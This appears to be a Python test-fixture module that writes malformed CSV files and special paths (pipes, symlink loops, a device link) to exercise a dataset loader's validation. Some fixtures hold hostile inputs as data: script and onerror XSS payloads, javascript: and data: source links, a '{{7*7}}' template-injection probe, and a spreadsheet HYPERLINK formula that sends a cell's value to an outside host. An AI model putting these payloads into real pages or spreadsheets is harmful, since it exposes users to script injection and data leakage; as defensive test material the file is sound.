"""A corpus of malformed dataset files, written fresh into a folder for each test run.

Each entry is a file a person or a broken tool could really hand us: wrong encodings,
wrong separators, broken CSV, impossible values, hostile links, and paths that are not
regular files at all (a named pipe, a folder, a symlink loop, a device).
"""

from __future__ import annotations

import codecs
import gzip
import os
from collections.abc import Callable
from pathlib import Path

HEADER = ("id,date,date_precision,event_type,title,summary,place,country,lat,lon,"
          "geo_precision,geocoder,attribution,sources,fatalities,persons")
GOOD = ("2019-08-23-berlin-k,2019-08-23,day,killing,Shot dead,Shot in a park.,"
        '"Moabit, Berlin, Germany",DE,52.5262,13.34,site,manual,confirmed,'
        "https://www.dw.com/en/,1,")


def _row(**changes: str) -> str:
    """GOOD with some cells replaced (cells are named by the header)."""
    names = HEADER.split(",")
    cells = ["2019-08-23-berlin-k", "2019-08-23", "day", "killing", "Shot dead",
             "Shot in a park.", '"Moabit, Berlin, Germany"', "DE", "52.5262", "13.34",
             "site", "manual", "confirmed", "https://www.dw.com/en/", "1", ""]
    for name, value in changes.items():
        cells[names.index(name)] = value
    return ",".join(cells)


def _text(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8")


#: name -> bytes of a malformed regular file
CONTENTS: dict[str, bytes] = {
    "empty.csv": b"",
    "whitespace.csv": b"  \n\t\n   \n",
    "binary-nul.csv": b"id,date\x00\x00\x01\x02" * 50,
    "png-named-csv.csv": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "gzip-named-csv.csv": gzip.compress(_text(HEADER, GOOD)),
    "xlsx-named-csv.csv": b"PK\x03\x04" + b"\x00" * 26 + b"[Content_Types].xml" + b"\x00" * 64,
    "latin1.csv": (HEADER + "\n" + _row(title="Caf\u00e9 Zürich") + "\n").encode("latin-1"),
    "utf16.csv": codecs.BOM_UTF16_LE + (HEADER + "\n" + GOOD + "\n").encode("utf-16-le"),
    "semicolons.csv": _text(HEADER.replace(",", ";"), GOOD.replace(",", ";")),
    "tabs.csv": _text(HEADER.replace(",", "\t"), GOOD.replace(",", "\t")),
    "header-only.csv": _text(HEADER),
    "missing-columns.csv": _text("id,date,title", "a,2019,x"),
    "duplicate-header.csv": _text(HEADER + ",title", GOOD + ",again"),
    "extra-cells.csv": _text(HEADER, GOOD + ",surplus,cells"),
    "short-row.csv": _text(HEADER, "2019-08-23-berlin-k,2019-08-23,day"),
    "unclosed-quote.csv": _text(HEADER, GOOD, GOOD.replace("Shot dead", '"Shot dead')),
    "json-named-csv.csv": b'{"type": "FeatureCollection", "features": []}\n',
    "html-named-csv.csv": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "bad-date.csv": _text(HEADER, _row(date="2019-02-30")),
    "year-zero.csv": _text(HEADER, _row(date="0000-01-01")),
    "year-before-1800.csv": _text(HEADER, _row(date="1066", date_precision="year")),
    "future-date.csv": _text(HEADER, _row(date="2999-01-01")),
    "date-precision-mismatch.csv": _text(HEADER, _row(date="2019-08", date_precision="day")),
    "excel-date.csv": _text(HEADER, _row(date="23/08/2019")),
    "unknown-event-type.csv": _text(HEADER, _row(event_type="{{7*7}}")),
    "bad-country.csv": _text(HEADER, _row(country="Germany")),
    "lat-out-of-range.csv": _text(HEADER, _row(lat="952.5")),
    "comma-decimal.csv": _text(HEADER, _row(lat='"52,5262"')),
    "nan-coordinates.csv": _text(HEADER, _row(lat="nan", lon="inf")),
    "lat-without-lon.csv": _text(HEADER, _row(lon="", geocoder="manual")),
    "huge-fatalities.csv": _text(HEADER, _row(fatalities="9" * 400)),
    "fatalities-beyond-64-bits.csv": _text(HEADER, _row(fatalities="18446744073709551617")),
    "negative-fatalities.csv": _text(HEADER, _row(fatalities="-3")),
    "fractional-persons.csv": _text(HEADER, _row(persons="1.5")),
    "javascript-source.csv": _text(HEADER, _row(sources="javascript:alert(document.domain)")),
    "data-source.csv": _text(HEADER, _row(sources="data:text/html;base64,PHNjcmlwdD4=")),
    "empty-sources.csv": _text(HEADER, _row(sources=";;;")),
    "duplicate-ids.csv": _text(HEADER, GOOD, GOOD),
    "id-not-a-slug.csv": _text(HEADER, _row(id='"<img src=x onerror=alert(1)>"')),
    "bad-geocoder.csv": _text(HEADER, _row(geocoder="guess")),
    "empty-required.csv": _text(HEADER, _row(title="", place="", attribution="")),
    "nul-in-cell.csv": (HEADER + "\n" + "x" * 9000 + "\x00" + "\n").encode("utf-8"),
    "huge-cell.csv": _text(HEADER, _row(summary='"' + "A" * 3_000_000 + '"',
                                        id="x y")),
    "formula-cells.csv": _text(HEADER, _row(title='"=HYPERLINK(""http://x/?""&A1)"',
                                            country="=1+1")),
}


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _folder(path: Path) -> None:
    path.mkdir()
    (path / "inside.csv").write_bytes(_text(HEADER, GOOD))


def _loop(path: Path) -> None:
    other = path.with_name(path.name + ".other")
    os.symlink(other.name, path)
    os.symlink(path.name, other)


def _dangling(path: Path) -> None:
    os.symlink("does-not-exist.csv", path)


def _device(path: Path) -> None:
    os.symlink("/dev/zero", path)


#: name -> function that makes a path that is not a regular, readable file
SPECIAL: dict[str, Callable[[Path], None]] = {
    "fifo.csv": _fifo,
    "folder.csv": _folder,
    "symlink-loop.csv": _loop,
    "dangling-link.csv": _dangling,
    "device.csv": _device,
}


def write_corpus(folder: Path) -> dict[str, Path]:
    """Write every malformed file into ``folder``; return name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, data in CONTENTS.items():
        path = folder / name
        path.write_bytes(data)
        paths[name] = path
    for name, make in SPECIAL.items():
        path = folder / name
        make(path)
        paths[name] = path
    paths["missing.csv"] = folder / "missing.csv"
    return paths
